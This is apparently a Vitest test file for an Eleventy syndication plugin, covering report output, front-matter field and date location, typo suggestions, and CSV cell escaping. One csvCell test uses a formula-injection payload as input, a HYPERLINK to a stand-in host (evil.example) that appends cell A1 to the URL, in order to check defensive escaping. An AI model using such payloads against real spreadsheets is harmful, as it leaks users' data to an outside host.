import { describe, expect, it } from "vitest";
import { formatReport, SyndicationError } from "../../plugins/syndication/report.js";
import { csvCell } from "../../plugins/syndication/report-table.js";
import yaml from "js-yaml";
import { locateFields, writtenDates } from "../../plugins/syndication/locate.js";
import { suggest } from "../../plugins/syndication/suggest.js";

describe("the report", () => {
  const problems = [
    { file: "src/b.md", line: 4, field: "syndication.licence", message: "is missing", fix: "add it" },
    { file: "src/a.md", field: "syndication", message: "is missing", fix: "add a block" },
    { file: "src/b.md", line: 2, field: "syndication.source", message: "is empty", fix: "name the publisher" },
  ];

  it("prints one line a problem, by file and line, with what is wrong and how to fix it", () => {
    expect(formatReport(problems)).toBe(
      [
        "eleventy-plugin-syndication: 3 problems in 2 reprints:",
        "src/a.md  syndication  is missing, add a block",
        "src/b.md:2  syndication.source  is empty, name the publisher",
        "src/b.md:4  syndication.licence  is missing, add it",
      ].join("\n"),
    );
  });

  it("is carried by an error that prints no stack trace", () => {
    const error = new SyndicationError(problems);
    expect(error.skipOriginalStack).toBe(true);
    expect(error.message).toBe("eleventy-plugin-syndication: 3 problems in 2 reprints (listed above); no page was written.");
    expect(error.report).toBe(formatReport(problems));
  });
});

describe("locateFields", () => {
  it("finds each syndication field's line (and writtenDates its date as written)", () => {
    const file = "---\ntitle: T\nsyndication:\n  source: X\n\n  published: 2021-13-45\n---\nbody\n";
    const { lines } = locateFields(file);
    expect(Object.fromEntries(lines)).toEqual({ "": 1, syndication: 3, source: 4, published: 6 });
    // The text as written comes from writtenDates, the scan the build uses.
    expect(writtenDates(file, yamlOf(file)).get("published")).toBe("2021-13-45");
  });

  it("finds nothing in a file without front matter", () => {
    expect(locateFields("just text").lines.size).toBe(0);
  });
});

describe("suggest", () => {
  it("suggests only close matches", () => {
    expect(suggest("orignalUrl", ["source", "originalUrl"])).toBe("originalUrl");
    expect(suggest("colour", ["source", "originalUrl"])).toBeUndefined();
  });
});

describe("writtenDates", () => {
  it("finds the dates of the front matter as written, without parsing the YAML again", () => {
    const file = "---\ntitle: T\nsyndication:\n  published: 2021-13-45\n  expires: 2022-01-02  # renewed\n---\npublished: 1999-01-01\n";
    expect(Object.fromEntries(writtenDates(file, yamlOf(file)))).toEqual({ published: "2021-13-45", expires: "2022-01-02" });
    const zoned = "---\nsyndication:\n  published: 2021-12-31T23:30:00-05:00\n---\n";
    expect(writtenDates(zoned, yamlOf(zoned)).get("published")).toBe("2021-12-31T23:30:00-05:00");
    expect(writtenDates("no front matter", {}).size).toBe(0);
  });

  it("finds them in flow style, and under withdrawn, and is not misled by the same key elsewhere", () => {
    const flow = "---\nsyndication: { source: W, published: 2021-02-30, withdrawn: { date: 2024-02-30 } }\n---\n";
    expect(Object.fromEntries(writtenDates(flow, yamlOf(flow)))).toEqual({ published: "2021-02-30", "withdrawn.date": "2024-02-30" });
    const elsewhere = "---\nsyndication:\n  expires: 2021-02-30\nnotes:\n  expires: 2030-01-01\n---\n";
    expect(writtenDates(elsewhere, yamlOf(elsewhere)).get("expires")).toBe("2021-02-30");
    // A real date that another key also holds, written the same: found, and real.
    const twice = "---\ndate: 2021-03-02\nsyndication:\n  published: 2021-03-02\n---\n";
    expect(writtenDates(twice, yamlOf(twice)).get("published")).toBe("2021-03-02");
  });
});

/** The syndication block as Eleventy's YAML parser (js-yaml 4) reads it. */
function yamlOf(file: string): unknown {
  return (yaml.load(file.split("---")[1]!) as { syndication?: unknown }).syndication;
}

describe("csvCell", () => {
  it("turns a cell a spreadsheet would run into text, as OWASP advises: a leading ' and quotes", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"]) {
      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    }
  });

  it("leaves other cells as RFC 4180 writes them", () => {
    expect(csvCell("Example Wire")).toBe("Example Wire");
    expect(csvCell("/reprints/2022/01/kept/")).toBe("/reprints/2022/01/kept/");
    expect(csvCell("a, b")).toBe('"a, b"');
    expect(csvCell('say "x"')).toBe('"say ""x"""');
    expect(csvCell("")).toBe("");
  });
});
